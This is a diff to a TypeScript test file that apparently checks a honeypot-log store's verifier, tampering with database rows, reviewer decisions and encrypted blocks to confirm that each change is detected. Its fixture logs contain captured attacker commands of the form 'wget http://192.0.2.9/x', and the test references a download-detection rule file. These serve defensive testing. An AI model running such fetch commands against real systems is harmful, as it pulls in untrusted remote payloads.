@@ -1,16 +1,45 @@
 /** Any change of a cell whose class is not operational is found by `verify`. */
 import assert from 'node:assert/strict'
+import { randomBytes } from 'node:crypto'
+import { cpSync, mkdtempSync, rmSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
 import { after, before, describe, test } from 'node:test'
+import { pathToFileURL } from 'node:url'
 import { gzipSync } from 'node:zlib'
 import { blake3 } from '../../src/core/blake3.ts'
 import { toHex } from '../../src/core/bytes.ts'
+import { LIMITS } from '../../src/limits.ts'
+import { standardRules } from '../../src/neutralize/standard-rules.ts'
+import { discard } from '../../src/pipeline/dead-letters.ts'
+import { setEmergency } from '../../src/pipeline/emergency.ts'
+import { recompute } from '../../src/pipeline/recompute.ts'
 import { verifyStore } from '../../src/pipeline/verify.ts'
+import {
+  loadRecipientPrivate,
+  newRecipientKey,
+  recipientOf,
+  wrapDataKey,
+} from '../../src/seal/envelope.ts'
 import type { PostgresStore } from '../../src/store/postgres/store.ts'
 import { POSTGRES_TABLES } from '../../src/store/postgres/tables.ts'
+import { deadLetters } from '../../src/store/repo/dead-letters.ts'
 import { type Column, type ColumnType, plainType, TABLES } from '../../src/store/schema.ts'
 import type { SqliteStore } from '../../src/store/sqlite/store.ts'
 import { ENGINES, eachEngine, type TestEngine } from '../support/engines.ts'
-import { events, Lab, line, lines, VERIFY_ALL } from '../support/loading.ts'
+import {
+  events,
+  Lab,
+  line,
+  lines,
+  NOW_US,
+  rules,
+  type StandardRules,
+  signingKey,
+  VERIFY_ALL,
+  VERSIONS,
+} from '../support/loading.ts'
+import { approveIn, HAZARDS, heldEvents, rejectIn } from '../support/review.ts'
 
 type Cells = Record<string, unknown>
 
@@ -23,6 +52,7 @@ type Backdoor = {
   remove(table: string, row: Cells): Promise<void>
   /** @returns false where the engine itself refuses */
   add(table: string, row: Cells): Promise<boolean>
+  run(statement: string): Promise<void>
   close(): void
 }
 
@@ -59,6 +89,9 @@ function sqliteBackdoor(store: SqliteStore): Backdoor {
         `insert into "${table}" (${names(row)}) values (${Object.keys(row).map(() => '?')})`,
         Object.values(row),
       ),
+    async run(statement) {
+      db.exec(statement)
+    },
     close() {},
   }
 }
@@ -106,6 +139,9 @@ async function postgresBackdoor(store: PostgresStore): Promise<Backdoor> {
         `insert into "${table}" (${names(row)}) values (${Object.keys(row).map((key, i) => cast(table, key, i + 1))})`,
         Object.values(row),
       ),
+    async run(statement) {
+      await client.query(statement)
+    },
     // Not back into the pool: what was set stays with the connection.
     close: () => client.release(true),
   }
@@ -157,24 +193,83 @@ const LOG = [
   line({ session: 'odd id', timestamp: '2026-05-02T00:00:04.000000Z', z: { b: 1, a: 2 }, a: 8 }),
   line({ session: 'odd id', timestamp: '2026-05-02T00:00:05.000000Z', z: 0, a: 9 }),
   line({ session: 'odd id', timestamp: '2026-05-02T00:00:06.000000Z', z: { a: 1, b: 2 }, a: 10 }),
+  // A session that has withheld events too, and one that has no others.
+  line({ ...HAZARDS[0], timestamp: '2026-05-02T00:00:02.500000Z' }),
+  line({ ...HAZARDS[1], timestamp: '2026-05-02T00:00:02.600000Z', src_port: { odd: 1 } }),
+  line({ ...HAZARDS[2], timestamp: '2026-05-02T00:00:02.700000Z', unheard: 1 }),
+  line({ ...HAZARDS[0], session: 'withheld whole', z: { a: 1, b: 2 } }),
+  line({ ...HAZARDS[2], session: 'withheld whole' }),
+  line({ ...HAZARDS[1], session: 'approved whole' }),
+  line({
+    eventid: 'cowrie.command.input',
+    input: 'wget http://192.0.2.9/x',
+    timestamp: '2026-05-02T00:00:03.500000Z',
+  }),
   'not json',
   '',
   '{"eventid":"cowrie.x"}',
   `{"eventid":"cowrie.sess`,
 ].join('\n')
 
+const privateKey = loadRecipientPrivate(newRecipientKey())
+const recipient = recipientOf(privateKey.publicKey)
+const BY = { actor: 'alice', reason: 'a test' }
+
+/** The rules of this checkout, a folder of all of them but one, and what takes the folder away. */
+function fewerRules(): { readonly less: StandardRules; remove(): void } {
+  const folder = mkdtempSync(join(tmpdir(), 'nacre-test-rules-'))
+  cpSync(new URL('../../rules/', import.meta.url), folder, { recursive: true })
+  rmSync(join(folder, 'threat.download.from-address.json'))
+  return {
+    less: standardRules(pathToFileURL(`${folder}/`)),
+    remove: () => rmSync(folder, { recursive: true }),
+  }
+}
+
 async function fill(lab: Lab): Promise<void> {
+  const { less, remove } = fewerRules()
   const whole = gzipSync(lines(events(40)))
   lab.write('torn.json.gz', whole.subarray(0, Math.floor(whole.length * 0.6)))
   await lab.load()
   lab.write('torn.json.gz', whole)
   lab.write('cowrie.json', LOG)
-  await lab.load()
-  await lab.load({ sensor: 'given' })
+  await lab.load({ rules: less })
+  await lab.store.review.addRecipientKey(recipient, NOW_US)
+  await lab.load({ sensor: 'given', recipient })
+  // Verdicts of all so far are made again; one more file is then loaded by fewer rules.
+  await recompute(lab.store, {
+    ...BY,
+    rules,
+    holdHazard: LIMITS.holdHazard,
+    dryRun: false,
+    signal: new AbortController().signal,
+    progress: () => {},
+  })
+  lab.write(
+    'later.json',
+    lines([
+      ...events(2, { eventid: 'cowrie.command.input', input: 'wget http://192.0.2.9/y' }),
+      ...events(2, { ...HAZARDS[1], session: 'later' }),
+    ]),
+  )
+  await lab.load({ rules: less, recipient, paths: [lab.path('later.json')] })
+  remove()
+  const held = await heldEvents(lab)
+  const { batch } = held[0]!
+  const own = held.filter((one) => one.batch === batch)
+  await approveIn(lab.store, batch, [own[1]!.record, own.at(-1)!.record])
+  await rejectIn(lab.store, batch, [own[0]!.record])
+  const [letter] = await deadLetters(lab.store.query, { state: 'new' }, 1)
+  await discard(lab.store, letter!, BY)
+  for (const state of ['on', 'off', 'on'] as const) await setEmergency(lab.store, state, BY)
+  const writer = lab.store.writer(VERSIONS)
+  await writer.checkpoint(signingKey)
+  await writer.close()
 }
 
-const problemsOf = async (lab: Lab): Promise<readonly string[]> => {
-  const verdict = await verifyStore(lab.store.reads(), VERIFY_ALL)
+const problemsOf = async (lab: Lab, withKey = false): Promise<readonly string[]> => {
+  const privateKeys = new Map(withKey ? [[privateKey.keyId, privateKey]] : [])
+  const verdict = await verifyStore(lab.store.reads(), { ...VERIFY_ALL, privateKeys })
   const { conservation, seals, view, summaries, journal } = verdict
   const found = [conservation, seals, view, summaries, journal].flatMap((one) => one.problems)
   assert.equal(verdict.ok, found.length === 0)
@@ -184,15 +279,35 @@ const problemsOf = async (lab: Lab): Promise<readonly string[]> => {
 /** Tables in which a row that nothing names says nothing; one engine numbers names before it needs them. */
 const DICTIONARIES = ['sensors', 'event_kinds', 'values', 'key_orders', 'session_names']
 
+/** Puts a row into the other table of events, with a number that no other row has. */
+function move(from: string, to: string, engine: TestEngine): string {
+  const own = engine.name === 'sqlite' ? 'id' : 'key_order_id'
+  const columns = `batch_id, record_no, event_time_us, session_key, kind_id, flags, digest, notes, payload, verdict_id, ${own}`
+  const cells = columns.replace(/\bid$/, 'id + 1000000')
+  return to === 'held_events'
+    ? `insert into held_events (${columns}, state) select ${cells}, 'held' from ${from} where %w`
+    : `insert into ${to} (${columns}) select ${cells} from ${from} where %w`
+}
+
+/** Columns that only who has the private key can check: they are of the bytes that were encrypted. */
+const OF_PLAIN_BYTES: ReadonlySet<string> = new Set([
+  'sources.head_length',
+  'sources.head_digest',
+  'sources.tail_digest',
+])
+
 /** Columns that are unique beside the key. */
 const SECOND_KEYS: Readonly<Record<string, readonly string[]>> = {
   sources: ['uid'],
   batches: ['seq'],
   raw_events: ['digest'],
+  held_events: ['digest'],
+  held_sessions: ['session'],
+  verdicts: ['digest'],
   sessions: ['session'],
 }
 
-/** Tables without a row until a later release, or whose rows are no part of any proof. */
+/** Tables whose rows are part of a proof. */
 const isGuarded = (columns: Readonly<Record<string, Column>>): boolean =>
   Object.values(columns).some((column) => column.class !== 'operational')
 
@@ -219,10 +334,10 @@ eachEngine((engine) => {
   })
 
   /** Does something to the store and asks what `verify` finds. The store is whole before and after. */
-  async function found(act: () => Promise<boolean>, undo: () => Promise<boolean>) {
+  async function found(act: () => Promise<boolean>, undo: () => Promise<boolean>, withKey = false) {
     if (!(await act())) return undefined
     try {
-      return await problemsOf(lab)
+      return await problemsOf(lab, withKey)
     } finally {
       assert.ok(await undo(), 'it could not be undone')
     }
@@ -237,12 +352,9 @@ eachEngine((engine) => {
     for (const [table, columns] of Object.entries(tables)) {
       for (const [column, spec] of Object.entries(columns)) {
         if (spec.class === 'operational') continue
-        test(`${table}.${column}`, async (t) => {
+        test(`${table}.${column}`, async () => {
           const rows = await door.rows(table)
-          if (rows.length === 0) {
-            t.skip('this release never fills the table')
-            return
-          }
+          assert.ok(rows.length > 0, 'the store of this test fills every table')
           let changed = 0
           for (const i of placesOf(engine, rows.length)) {
             const row = rows[i]!
@@ -250,6 +362,7 @@ eachEngine((engine) => {
               const problems = await found(
                 () => door.change(table, row, column, value),
                 () => door.change(table, { ...row, [column]: value }, column, row[column]),
+                OF_PLAIN_BYTES.has(`${table}.${column}`),
               )
               if (problems === undefined) continue
               changed += 1
@@ -267,6 +380,226 @@ eachEngine((engine) => {
 
     test('the store verifies again when all is put back', async () => {
       assert.deepEqual(await problemsOf(lab), [])
+    })
+  })
+
+  describe('what a reviewer did not decide is found', () => {
+    const WHERE = 'batch_id = %b and record_no = %r'
+
+    /** Runs statements on the database itself, asks what verification finds, and puts the tables back. */
+    async function problemsAfter(...statements: readonly string[]): Promise<readonly string[]> {
+      const tables = [
+        'raw_events',
+        'held_events',
+        'held_sessions',
+        'modes',
+        'rule_sets',
+        'verdicts',
+      ]
+      const kept = new Map<string, Cells[]>()
+      for (const table of tables) kept.set(table, await door.rows(table))
+      try {
+        for (const statement of statements) await door.run(statement)
+        return await problemsOf(lab)
+      } finally {
+        for (const table of tables) {
+          await door.run(`delete from ${table}`)
+          for (const row of kept.get(table)!) assert.ok(await door.add(table, row))
+        }
+      }
+    }
+
+    const placed = (statement: string, row: Cells): string =>
+      statement
+        .replaceAll('%w', WHERE)
+        .replaceAll('%b', String(row['batch_id']))
+        .replaceAll('%r', String(row['record_no']))
+
+    const one = async (where: string, table = 'held_events'): Promise<Cells> =>
+      (await lab.all(`select batch_id, record_no from ${table} where ${where} order by 1, 2`))[0]!
+
+    for (const [name, where, table, statements] of [
+      [
+        'a rejection taken back',
+        `state = 'rejected'`,
+        'held_events',
+        [`update held_events set state = 'held' where %w`],
+      ],
+      [
+        'a rejection of one that waits',
+        `state = 'held'`,
+        'held_events',
+        [`update held_events set state = 'rejected' where %w`],
+      ],
+      [
+        'a state that is none',
+        `state = 'held'`,
+        'held_events',
+        [`update held_events set state = 'approved' where %w`],
+      ],
+      [
+        'one that waits taken away',
+        `state = 'held'`,
+        'held_events',
+        ['delete from held_events where %w'],
+      ],
+      [
+        'one that was rejected taken away',
+        `state = 'rejected'`,
+        'held_events',
+        ['delete from held_events where %w'],
+      ],
+      [
+        'one that waits among the stored ones',
+        `state = 'held'`,
+        'held_events',
+        [move('held_events', 'raw_events', engine), 'delete from held_events where %w'],
+      ],
+      [
+        'one that was rejected among the stored ones',
+        `state = 'rejected'`,
+        'held_events',
+        [move('held_events', 'raw_events', engine), 'delete from held_events where %w'],
+      ],
+      [
+        'one that waits in both tables',
+        `state = 'held'`,
+        'held_events',
+        [move('held_events', 'raw_events', engine)],
+      ],
+      [
+        'a stored one made one that was approved',
+        'flags & 2048 = 0',
+        'raw_events',
+        ['update raw_events set flags = flags + 2048 where %w'],
+      ],
+      [
+        'an approved one made one that was never withheld',
+        'flags & 2048 <> 0',
+        'raw_events',
+        ['update raw_events set flags = flags - 2048 where %w'],
+      ],
+      [
+        'an approved one withheld again',
+        'flags & 2048 <> 0',
+        'raw_events',
+        [move('raw_events', 'held_events', engine), 'delete from raw_events where %w'],
+      ],
+      [
+        'a stored one withheld',
+        'flags & 2048 = 0',
+        'raw_events',
+        [move('raw_events', 'held_events', engine), 'delete from raw_events where %w'],
+      ],
+      [
+        'a withheld one without the flag',
+        `state = 'held'`,
+        'held_events',
+        ['update held_events set flags = flags - 2048 where %w'],
+      ],
+    ] as const) {
+      test(name, async () => {
+        const row = await one(where, table)
+        const problems = await problemsAfter(...statements.map((text) => placed(text, row)))
+        assert.notDeepEqual(problems, [])
+      })
+    }
+
+    for (const table of ['raw_events', 'held_events'])
+      test(`a verdict of ${table} that is another one, as it stands in the store`, async () => {
+        const problems = await problemsAfter(
+          `update ${table} set verdict_id = (select max(id) from verdicts where id <> verdict_id) where verdict_id <> 0`,
+        )
+        assert.notDeepEqual(problems, [])
+      })
+
+    test('an emergency that nobody ended', async () => {
+      assert.notDeepEqual(await problemsAfter('delete from modes where seq > 0'), [])
+    })
+
+    test('rules taken away that verdicts were made by', async () => {
+      assert.notDeepEqual(await problemsAfter(`delete from rule_sets where version <> ''`), [])
+      const [other] = await lab.all<{ version: string }>(
+        `select distinct version from rule_sets where version <> '${rules.version}'`,
+      )
+      assert.notDeepEqual(
+        await problemsAfter(`delete from rule_sets where version = '${other!.version}'`),
+        [],
+      )
+    })
+
+    test('nothing is left of it', async () => {
+      assert.deepEqual(await problemsOf(lab), [])
+    })
+  })
+
+  describe('encrypted blocks', () => {
+    const withKey = async (): Promise<{
+      problems: readonly string[]
+      notChecked: readonly string[]
+    }> => {
+      const { seals, view, notChecked } = await verifyStore(lab.store.reads(), {
+        ...VERIFY_ALL,
+        privateKeys: new Map([[privateKey.keyId, privateKey]]),
+      })
+      return { problems: [...seals.problems, ...view.problems], notChecked }
+    }
+
+    test('are all opened with the private key, and named without', async () => {
+      assert.deepEqual(await withKey(), { problems: [], notChecked: [] })
+      const { notChecked } = await verifyStore(lab.store.reads(), VERIFY_ALL)
+      assert.equal(notChecked.length, 1)
+      assert.match(
+        notChecked[0]!,
+        new RegExp(`private half of key ${privateKey.keyId} is not here`),
+      )
+    })
+
+    test('of which a bit is flipped are found, with the private key and without', async () => {
+      const encrypted = (await door.rows('blocks')).filter((row) => row['key_id'] !== '')
+      assert.ok(encrypted.length > 1)
+      for (const row of encrypted) {
+        const bytes = Buffer.from(row['bytes'] as Uint8Array)
+        for (const at of [0, Math.floor(bytes.length / 2), bytes.length - 1]) {
+          const changed = Buffer.from(bytes)
+          changed[at]! ^= 1
+          const problems = await found(
+            async () => {
+              const isDone = await door.change('blocks', row, 'bytes', changed)
+              assert.notDeepEqual((await withKey()).problems, [])
+              return isDone
+            },
+            () => door.change('blocks', { ...row, bytes: changed }, 'bytes', bytes),
+          )
+          assert.notDeepEqual(problems, [])
+        }
+      }
+    })
+
+    test('encrypted anew to the same key, with other bytes inside, are found without the private key', async () => {
+      const [row] = (await door.rows('batch_keys')) as [Cells]
+      const forged = wrapDataKey(recipient, randomBytes(32), randomBytes(32))
+      const problems = await found(
+        async () =>
+          (await door.change('batch_keys', row, 'ephemeral', Buffer.from(forged.ephemeral))) &&
+          door.change(
+            'batch_keys',
+            { ...row, ephemeral: Buffer.from(forged.ephemeral) },
+            'wrapped',
+            Buffer.from(forged.wrapped),
+          ),
+        async () => {
+          const now = { ...row, ephemeral: Buffer.from(forged.ephemeral) }
+          await door.change(
+            'batch_keys',
+            { ...now, wrapped: Buffer.from(forged.wrapped) },
+            'wrapped',
+            row['wrapped'],
+          )
+          return door.change('batch_keys', now, 'ephemeral', row['ephemeral'])
+        },
+      )
+      assert.notDeepEqual(problems, [])
     })
   })
 
